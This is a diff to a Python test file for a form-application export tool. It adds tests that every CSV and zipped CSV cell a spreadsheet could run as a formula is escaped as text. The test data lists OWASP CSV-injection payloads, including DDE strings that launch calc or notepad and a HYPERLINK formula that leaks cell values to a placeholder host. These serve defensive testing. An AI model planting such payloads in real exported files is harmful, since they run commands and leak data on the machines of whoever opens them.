@@ -22,7 +22,7 @@ from engine.cli import main
 from engine.documents.models import ApplicationPdf, ConversionStatus, DocumentConversion
 from engine.documents.storage import storage_from_config
 from engine.exports import writers
-from engine.exports.columns import columns_of
+from engine.exports.columns import Column, columns_of
 from engine.exports.service import ExportRequest, records_of
 
 SUBMITTED = dt.datetime(2026, 3, 1, 12, 0)
@@ -69,8 +69,68 @@ def test_csv_has_a_row_per_submitted_application_and_columns_in_definition_order
     assert mei["submitted_at"] == "2026-03-01T12:00:00Z"
     assert mei["first_name"] == "Mei" and mei["gender"] == "Woman" and mei["race_asian"] == "Yes"
     assert (mei["legacy_name"], mei["legacy_2_name"]) == ("Lin Chen", "Wei Chen")  # add-another, numbered
-    assert mei["phone_mobile"] == "+1 (647) 555-0199"  # kept as typed
+    assert mei["phone_mobile"] == "'+1 (647) 555-0199"  # text to a spreadsheet, shown as typed
     assert mei["essay"] == '\'=HYPERLINK("http://evil.example")'  # never run as a formula
+
+
+# OWASP's CSV injection payloads, and a phone number and a negative amount typed as text: any cell
+# beginning with =, +, -, @, a tab or a carriage return reaches the spreadsheet as text.
+FORMULAS = [
+    "=1+1",
+    "-2+3+cmd|'/C calc'!A0",
+    "+ 1+1",
+    "+1+1",
+    "-1+1",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    '=HYPERLINK("http://evil.example?leak="&A1&A2, "Error: please click for details")',
+    "=cmd|' /C notepad'!'A1'",
+    "+1 (647) 555-0199",
+    "-5",
+]
+
+
+def test_every_cell_that_a_spreadsheet_would_run_is_text(export, add_application):
+    for number, payload in enumerate(FORMULAS):
+        add_application(
+            f"a{number}@example.com", reference=f"INTL-F{number:07d}", submitted_at=SUBMITTED, essay=payload
+        )
+    add_application("=1+1@example.com", "@Mei", "-Chen", reference="INTL-FNAMES00", submitted_at=SUBMITTED)
+    result, path = export("csv", "--labels")
+    assert result.exit_code == 0, result.output
+    header, _labels, *rows = _csv(path)
+    essays = {row[0]: dict(zip(header, row, strict=True))["essay"] for row in rows}
+    assert [essays[f"INTL-F{number:07d}"] for number in range(len(FORMULAS))] == ["'" + p for p in FORMULAS]
+    names = dict(zip(header, next(row for row in rows if row[0] == "INTL-FNAMES00"), strict=True))
+    assert (names["username"], names["first_name"], names["last_name"]) == ("'=1+1@example.com", "'@Mei", "'-Chen")
+    assert all(not cell or cell[0] not in "=+-@\t\r" for row in rows for cell in row)
+
+
+def test_the_zips_csv_is_neutralised_too(export, add_application):
+    add_application(reference="INTL-FZIP0000", submitted_at=SUBMITTED, essay="-2+3+cmd|'/C calc'!A0")
+    result, path = export("zip")
+    assert result.exit_code == 0, result.output
+    with zipfile.ZipFile(path) as archive:
+        text = archive.read("applications.csv").decode("utf-8-sig")
+    header, row = list(csv.reader(io.StringIO(text, newline="")))
+    assert dict(zip(header, row, strict=True))["essay"] == "'-2+3+cmd|'/C calc'!A0"
+
+
+def test_numbers_stored_as_numbers_are_values_not_text(tmp_path):
+    """No field type stores numbers today; when one does, a negative amount stays a number."""
+    columns = [Column("amount", "Amount", "number"), Column("note", "Note", "text")]
+
+    class Record:
+        answers = {"amount": -12.5, "note": "-12.5"}
+        documents: dict = {}
+
+        def summary(self):
+            return dict.fromkeys(("reference", "username", "status", "submitted_at", "definition_version"), 1)
+
+    path = tmp_path / "numbers.csv"
+    assert writers.write_csv(path, columns, [Record()], lambda _step: None) == 1
+    assert _csv(path)[1][-2:] == ["-12.5", "'-12.5"]
 
 
 def test_labels_add_a_second_header_row(export, applications):
